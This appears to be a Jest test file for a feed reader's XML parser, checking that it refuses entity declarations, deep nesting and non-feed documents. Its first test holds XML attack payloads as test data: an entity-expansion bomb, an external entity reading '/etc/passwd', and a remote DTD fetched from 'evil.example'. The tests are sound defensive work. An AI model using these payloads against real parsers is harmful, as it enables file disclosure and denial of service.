import { describe, expect, it } from '@jest/globals';
import { readFeed } from './read-feed.js';

const context = { url: 'https://paper.example/feed', capturedAt: '2026-03-10T12:00:00Z' };
const read = (text: string): ReturnType<typeof readFeed> => readFeed(new TextEncoder().encode(text), context);

const rss = (items: string): string =>
  `<rss version="2.0"><channel><title>Paper</title><link>https://paper.example/</link>${items}</channel></rss>`;

describe('a feed', () => {
  it('that declares entities is refused, however they are nested', () => {
    for (const subset of [
      '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">',
      '<!ENTITY file SYSTEM "file:///etc/passwd">',
      '<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;',
      '<!entity a "x>y">',
    ]) {
      expect(() => read(`<?xml version="1.0"?><!DOCTYPE rss [${subset}]>${rss('')}`)).toThrow(
        expect.objectContaining({ code: 'xml-entities', kind: 'poison' }),
      );
    }
  });

  it('may name a document type and sets of character names, which are not fetched', () => {
    const feed = read(
      `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "https://paper.example/lat1.ent"> %HTMLlat1;]>${rss('<item><title>Caf&eacute;</title></item>')}`,
    );
    expect(feed.entries[0]?.title).toBe('Café');
    expect(feed.warnings).toEqual([expect.objectContaining({ code: 'dtd-ignored' })]);
  });

  it('never expands a reference that nothing defines', () => {
    expect(read(rss('<item><title>AT&T &unknown; &copy;</title></item>')).entries[0]?.title).toBe('AT&T &unknown; ©');
  });

  it('that opens elements without end is refused', () => {
    expect(() => read(`<rss>${'<a>'.repeat(400_000)}`)).toThrow(expect.objectContaining({ code: 'xml-too-deep' }));
  });

  it.each([
    ['an HTML page', '<!doctype html><html><body>Not found</body></html>', 'HTML page'],
    ['a sitemap', '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"></urlset>', 'sitemap'],
    ['a list of feeds', '<opml version="2.0"><body/></opml>', 'OPML'],
    ['empty', '', 'empty'],
  ])('that is %s is refused by name', (_what, text, word) => {
    expect(() => read(text)).toThrow(expect.objectContaining({ code: 'not-a-feed', kind: 'poison' }));
    expect(() => read(text)).toThrow(word);
  });
});
